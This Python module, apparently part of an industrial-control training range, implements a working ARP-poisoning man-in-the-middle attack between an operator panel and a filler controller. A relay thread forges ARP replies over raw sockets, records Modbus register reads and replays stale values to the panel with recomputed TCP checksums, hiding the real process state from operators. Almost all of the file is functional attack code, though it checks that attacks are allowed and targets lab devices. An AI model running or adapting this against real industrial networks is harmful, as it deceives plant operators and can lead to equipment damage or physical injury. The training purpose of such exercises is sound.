"""Adversary in the middle of panel and filler: ARP poisoning, and a relay that replays old values to the panel.

The relay keeps lengths, so that TCP's sequence numbers stay right; it changes registers in answers to reads and makes
the checksum new (RFC 9293, 3.1). What it does not know it passes on unchanged.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections.abc import Iterator

from linewarden.exercises.attacks.scan import REPLY, arp_frame, mac
from linewarden.exercises.context import Context
from linewarden.exercises.devices._modbus import MODBUS_PORT
from linewarden.exercises.line import DEVICES

ETH_P_IP = 0x0800
TCP = 6
READS = (3, 4)
POISON_S = 1.0
MODBUS_HEAD = 8  # MBAP and function code


class Replay:
    """Remembers the registers in answers to reads, and puts them in the place of later ones once `replaying`."""

    def __init__(self) -> None:
        self.replaying = False
        self.replaced = 0
        self._memory: dict[tuple[int, int], bytes] = {}

    def answer(self, frame: bytes) -> bytes:
        """The frame that the panel gets for one from the controller."""
        start = 14 + (frame[14] & 0x0F) * 4
        if frame[23] != TCP or frame[start : start + 2] != struct.pack(">H", MODBUS_PORT):
            return frame
        at = start + (frame[start + 12] >> 4) * 4
        end = 14 + int.from_bytes(frame[16:18], "big")
        message = frame[at:end]
        if len(message) <= MODBUS_HEAD + 1 or message[7] not in READS or message[8] != len(message) - MODBUS_HEAD - 1:
            return frame
        key = (message[7], message[8])
        if not self.replaying:
            self._memory[key] = message[MODBUS_HEAD + 1 :]
            return frame
        if key not in self._memory:
            return frame
        self.replaced += 1
        changed = frame[: at + MODBUS_HEAD + 1] + self._memory[key] + frame[end:]
        return with_checksum(changed, start, end)


class Relay(threading.Thread):
    """Takes frames that the victims send to us and passes them on; what the server answers goes through `replay`."""

    def __init__(self, ctx: Context, server: str, client: str) -> None:
        ctx.require_attack_allowed()
        super().__init__(daemon=True)
        self.server, self.client, self.own = server, client, mac(ctx.name)
        self.replay, self.ended, self.passed = Replay(), False, 0
        self._macs = {socket.inet_aton(DEVICES[name].address): mac(name) for name in (server, client)}
        self._wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        self._wire.bind(("eth0", ETH_P_IP))
        self._wire.settimeout(0.2)

    def run(self) -> None:
        """Until `ended`."""
        while not self.ended:
            try:
                frame = self._wire.recv(2048)
            except TimeoutError:
                continue
            source, target = frame[26:30], frame[30:34]
            if frame[0:6] == self.own and source in self._macs and target in self._macs and frame[6:12] != self.own:
                if frame[6:12] == self._macs[ip_of(self.server)]:
                    frame = self.replay.answer(frame)
                self._wire.send(self._macs[target] + self.own + frame[12:])
                self.passed += 1
        self._wire.close()


def ip_of(name: str) -> bytes:
    """A device's IPv4 address as four bytes."""
    return socket.inet_aton(DEVICES[name].address)


def with_checksum(frame: bytes, start: int, end: int) -> bytes:
    """The frame with TCP's checksum made new; the segment stands from `start` to `end`."""
    segment = bytearray(frame[start:end])
    segment[16:18] = b"\0\0"
    pseudo = frame[26:34] + struct.pack(">BBH", 0, TCP, len(segment))
    padded = pseudo + bytes(segment) + b"\0" * (len(segment) % 2)
    total = sum(struct.unpack(f">{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    segment[16:18] = struct.pack(">H", ~total & 0xFFFF)
    return frame[:start] + bytes(segment) + frame[end:]


@contextlib.contextmanager
def poisoned(ctx: Context, one: str, other: str) -> Iterator[None]:
    """While in the block, both devices take us for the other; afterwards the truth is told again."""
    ctx.require_attack_allowed()
    ended = threading.Event()
    pairs = ((one, other), (other, one))

    def tell(lie: bool) -> None:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
            wire.bind(("eth0", 0))
            for victim, played in pairs:
                claimed = mac(ctx.name) if lie else mac(played)
                body = arp_frame(REPLY, mac(victim), (claimed, DEVICES[played].address),
                                 (mac(victim), DEVICES[victim].address))  # fmt: skip
                wire.send(body[:6] + mac(ctx.name) + body[12:])

    def keep_lying() -> None:
        while not ended.wait(POISON_S):
            tell(lie=True)

    tell(lie=True)
    thread = threading.Thread(target=keep_lying, daemon=True)
    thread.start()
    try:
        yield
    finally:
        ended.set()
        thread.join()
        for _ in range(3):
            tell(lie=False)
            time.sleep(0.3)
